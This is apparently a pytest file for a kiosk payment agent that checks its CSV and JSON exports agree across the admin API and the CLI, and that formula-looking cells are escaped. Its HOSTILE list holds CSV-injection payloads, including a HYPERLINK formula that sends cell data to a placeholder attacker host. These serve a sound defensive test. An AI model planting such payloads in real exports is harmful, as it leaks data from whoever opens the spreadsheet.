"""One CSV/JSON export: the admin API's CSV, `report --format csv` and `sales --format csv` agree,
and a cell a spreadsheet would run as a formula is neutralised on all three routes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kiosk_agent.app import load_agent
from kiosk_agent.cli import main
from kiosk_agent.export import FORMULA_STARTS, Amount, CsvExport, JsonExport, csv_cell, export_audit
from kiosk_agent.moments import display_clock, display_time, timestamp
from kiosk_agent.sales.journal import Journal, SaleRecord
from kiosk_agent.sales.states import SaleState
from kiosk_agent.service.client import ServiceClient
from kiosk_agent.service.models.payments import ChargeRequest
from kiosk_agent.sim.server import SimServer
from tests.admin.conftest import ADMIN_TOKEN, write_config
from tests.helpers import walk_to

# What the attack review put in product names and order fields.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-1+1", "@SUM(1)",
           "\tTAB", "\rCR"]


def test_formula_cells_get_a_leading_quote_and_plain_text_stays() -> None:
    assert [csv_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert csv_cell("Snickers") == "Snickers"
    assert csv_cell("a=b") == "a=b"  # only the first character makes a formula
    assert csv_cell(None) == ""


def test_our_numbers_keep_their_sign_and_two_places() -> None:
    assert csv_cell(Amount(8070)) == "80.70"
    assert csv_cell(Amount(-150)) == "-1.50"  # an adjustment may be negative: not text
    assert csv_cell(-3) == "-3"
    assert csv_cell(Decimal("0.0195")) == "0.0195"  # a rate is not an amount


def test_timestamps_are_utc_to_the_second_with_z() -> None:
    paris = dt.timezone(dt.timedelta(hours=1))
    assert timestamp(dt.datetime(2026, 11, 22, 11, 15, 30, 123000, tzinfo=paris)) == (
        "2026-11-22T10:15:30Z"
    )
    assert timestamp(dt.datetime(2026, 11, 22, 10, 15, 30)) == "2026-11-22T10:15:30Z"


def test_one_moment_reads_the_same_in_json_and_for_people_whatever_form_it_comes_in() -> None:
    paris = dt.timezone(dt.timedelta(hours=1))
    forms = [
        1795866930.4,  # Unix seconds, as the journal holds them
        dt.datetime(2026, 11, 28, 12, 55, 30, 400000, tzinfo=paris),
        dt.datetime(2026, 11, 28, 11, 55, 30),  # naive: UTC
        "2026-11-28T11:55:30Z",  # the agent's own JSON, read back by a command
        "2026-11-28T12:55:30+01:00",
    ]
    for moment in forms:
        assert timestamp(moment) == "2026-11-28T11:55:30Z", moment
        assert display_time(moment) == "2026-11-28 11:55:30Z", moment
        assert display_clock(moment) == "11:55:30Z", moment


@given(st.text(max_size=40))
def test_no_text_cell_ever_starts_a_formula(text: str) -> None:
    line = CsvExport(["name"]).row({"name": text})
    [[cell]] = list(csv.reader(io.StringIO(line, newline="")))
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") == text or cell == text


def test_json_export_is_one_array_with_exact_amounts() -> None:
    export = JsonExport()
    text = export.start() + export.row({"amount": Amount(250), "at": dt.datetime(
        2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)}) + export.row({"amount": Amount(1)}) + export.end()
    assert json.loads(text) == [{"amount": "2.50", "at": "2026-01-02T03:04:05Z"},
                                {"amount": "0.01"}]
    empty = JsonExport()
    assert json.loads(empty.start() + empty.end()) == []


# -- the three routes --------------------------------------------------------------------------


@pytest.fixture
async def hostile_orders(sim: SimServer, sim_settings: Any) -> list[str]:
    """One approved charge per hostile order id, in the simulator's reporting."""
    async with ServiceClient(sim_settings) as svc:
        for order_id in HOSTILE[:4]:
            await svc.payments.charge(ChargeRequest(
                mid=svc.settings.mid, amount=8070, account_token="tok_4111111111111111",
                expiration="1230", order_id=order_id,
            ))
    return HOSTILE[:4]


@pytest.fixture
async def admin_url(tmp_path: Path, sim_settings: Any) -> AsyncIterator[str]:
    agent = load_agent(write_config(tmp_path), sim_settings, systemd=False)
    await agent.start()
    server = next(c for c in agent.components if type(c).__name__ == "AdminServer")
    try:
        yield server.url
    finally:
        await agent.stop()


def _env(monkeypatch: pytest.MonkeyPatch, sim: SimServer) -> None:
    info = sim.ready_info()
    monkeypatch.delenv("KIOSK_CONFIG", raising=False)
    monkeypatch.setenv("KIOSK_BASE_URL", info["base_url"])
    monkeypatch.setenv("KIOSK_CLIENT_ID", info["client_id"])
    monkeypatch.setenv("KIOSK_CLIENT_SECRET", info["client_secret"])


async def test_admin_csv_and_cli_csv_are_the_same_file_with_formulas_neutralised(
    hostile_orders: list[str], admin_url: str, sim: SimServer,
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
) -> None:
    from kiosk_agent.cli import build_parser

    _env(monkeypatch, sim)
    for order_id in hostile_orders:
        query = {"format": "csv", "order_id": order_id}
        headers = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
        async with (
            aiohttp.ClientSession() as http,
            http.get(f"{admin_url}/api/reports/transactions", params=query,
                     headers=headers) as response,
        ):
            assert response.status == 200
            from_api = await response.text()
        args = build_parser("report").parse_args(
            ["report", "transactions", f"--order-id={order_id}", "--format", "csv", "--quiet"]
        )
        assert await args.handler(args) == 0
        from_cli = capsys.readouterr().out
        assert from_api == from_cli  # same columns, order, amounts, timestamps: one writer
        [row] = list(csv.DictReader(io.StringIO(from_cli)))
        assert row["order_id"] == "'" + order_id
        assert row["amount"] == "80.70"
        assert row["amount_cents"] == "8070"
        assert row["trans_date"].endswith("Z")
        assert "account_token" not in row


def test_sales_csv_neutralises_product_names_and_messages(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.yaml"
    config.write_text("service: {simulator: {}}\nterminals: [{device_id: SIM-0001}]\n"
                      "journal: {path: journal.db}\n")
    journal = Journal(tmp_path / "journal.db")
    journal.open()
    for n, product in enumerate(HOSTILE):
        sale = journal.create(SaleRecord(
            sale_id=f"s{n}", order_id=f"KA{n}", source="kiosk_api:front", flow="charge_card",
            terminal="SIM-0001", amount_cents=1000 + n, product=product,
            state=SaleState.STARTED, created_at=1_790_000_000.0 + n,
        ))
        walk_to(journal, sale, SaleState.COMPLETED, captured_cents=1000 + n, message=product)
    journal.close()
    assert main(["sales", "-c", str(config), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r["product"] for r in rows) == sorted("'" + p for p in HOSTILE)
    assert all(r["message"] == r["product"] for r in rows)
    assert {r["amount"] for r in rows} == {f"10.0{n}" for n in range(len(HOSTILE))}
    assert all(r["created"].endswith("Z") for r in rows)


async def test_a_json_record_has_the_csv_columns_in_their_order(sim_settings: Any) -> None:
    """docs/cli.md: CSV and JSON give every field in the model's order, a transaction's
    `status` by name right after its `trans_status_id`, `amount_cents` last."""
    from kiosk_agent.export import report_columns, report_values
    from kiosk_agent.service.models.reports import ReportKind

    seen = set()
    async with ServiceClient(sim_settings) as svc:
        for kind in ReportKind:
            async for record in svc.reporting.records(kind, None, limit=1):
                seen.add(kind)
                values = report_values(record)
                assert tuple(values) == report_columns(kind), kind
                export = JsonExport()
                row = json.loads(export.start() + export.row(values) + export.end())[0]
                assert tuple(row) == report_columns(kind), kind
    assert seen == set(ReportKind)  # the seeded data set has a record of every kind
    columns = report_columns(ReportKind.TRANSACTIONS)
    assert columns[columns.index("trans_status_id") + 1] == "status"
    assert columns[-1] == "amount_cents"


def test_times_for_people_are_written_in_one_place() -> None:
    # the display formats lived in eight modules; a ninth copy would drift from them (a missing
    # Z, a local time)
    package = Path(__file__).parents[1] / "kiosk_agent"
    writers = sorted(
        str(path.relative_to(package)) for path in package.rglob("*.py")
        if "%H:%M:%SZ" in path.read_text()
    )
    assert writers == ["moments.py"]


def test_the_books_json_gives_the_reads_and_the_comparisons_times_in_iso_8601() -> None:
    at = 1795866930.0  # 2026-11-28T11:55:30Z
    report = {
        "machine": "snacks",
        "last_read": {"at": at, "clean": True, "machine": "VM-1", "changes": []},
        "columns": [{"column": "A1", "filled_at": at - 3600}],
        "comparisons": [{"verdict": "match", "since": at - 600, "until": at, "text": "...",
                         "sales": [{"sale_id": "s1", "vended_at": at - 60},
                                   {"sale_id": "s2", "vended_at": None}]}],
        "mismatch": "",
    }
    document = json.loads("".join(export_audit(report, "json")))
    assert document["last_read"]["at"] == "2026-11-28T11:55:30Z"
    assert document["columns"][0]["filled_at"] == "2026-11-28T10:55:30Z"
    assert document["columns"][0]["last_read"] == "2026-11-28T11:55:30Z"
    [comparison] = document["comparisons"]
    assert (comparison["since"], comparison["until"]) == ("2026-11-28T11:45:30Z",
                                                          "2026-11-28T11:55:30Z")
    assert [s["vended_at"] for s in comparison["sales"]] == ["2026-11-28T11:54:30Z", None]
    assert report["last_read"]["at"] == at  # the books themselves keep Unix seconds


def test_every_exported_sale_says_its_kind_as_the_journal_and_the_api_records_do(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`sales --kind all --format csv|json` mixed the sales with the card sessions that ended
    with no selection, and no column told them apart (the API's records and `sales show` said
    it). Each row now says its kind by the one rule, as `sale_json` does."""
    from kiosk_agent.export import SALE_COLUMNS, sale_json
    from kiosk_agent.sales.kinds import no_selection

    config = tmp_path / "config.yaml"
    config.write_text("service: {simulator: {}}\nterminals: [{device_id: SIM-0001}]\n"
                      "journal: {path: journal.db}\n")
    journal = Journal(tmp_path / "journal.db")
    journal.open()
    rows = (  # sale id, source, product, end, what it kept
        ("walked", "virtual:coffee", None, SaleState.REVERSED, 0),  # walked away: not a sale
        ("nobody", "mdb:coffee", None, SaleState.CANCELLED, 0),  # no one came: not a sale
        ("chose", "virtual:coffee", "K1", SaleState.COMPLETED, 180),
        ("failed_vend", "virtual:coffee", "K3", SaleState.REVERSED, 0),  # chose: a sale
        ("app", "kiosk_api:front", None, SaleState.COMPLETED, 250),  # an app names no product
    )
    for n, (sale_id, source, product, end, kept) in enumerate(rows):
        sale = journal.create(SaleRecord(
            sale_id=sale_id, order_id=f"KA{n}", source=source, flow="authorize_capture",
            terminal="SIM-0001", amount_cents=500, product=product, state=SaleState.STARTED,
            created_at=1_790_000_000.0 + n,
        ))
        walk_to(journal, sale, end, captured_cents=kept)
    records = {r.sale_id: r for r in journal}
    journal.close()
    expected = {sale_id: "no_selection" if no_selection(r) else "sale"
                for sale_id, r in records.items()}
    assert sorted(expected.values()) == ["no_selection"] * 2 + ["sale"] * 3  # the rule's own
    assert all(sale_json(r)["kind"] == expected[i] for i, r in records.items())  # the API's

    assert main(["sales", "-c", str(config), "--format", "csv", "--kind", "all"]) == 0
    text = capsys.readouterr().out
    assert text.splitlines()[0].split(",") == list(SALE_COLUMNS)
    # each added last: columns read by position stay where they were
    assert SALE_COLUMNS[14:] == ("kind", "late_vend", "given_back_by_others", "service_status",
                                 "given_back_by", "given_back_at")
    assert {r["sale_id"]: r["kind"] for r in csv.DictReader(io.StringIO(text))} == expected
    assert main(["sales", "-c", str(config), "--format", "json", "--kind", "all"]) == 0
    exported = json.loads(capsys.readouterr().out)
    assert {r["sale_id"]: r["kind"] for r in exported} == expected
    assert all(list(r) == list(SALE_COLUMNS) for r in exported)  # the CSV's columns, in order
    assert main(["sales", "-c", str(config), "--format", "csv", "--kind", "no_selection"]) == 0
    apart = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["sale_id"] for r in apart} == {"walked", "nobody"}
    assert {r["kind"] for r in apart} == {"no_selection"}
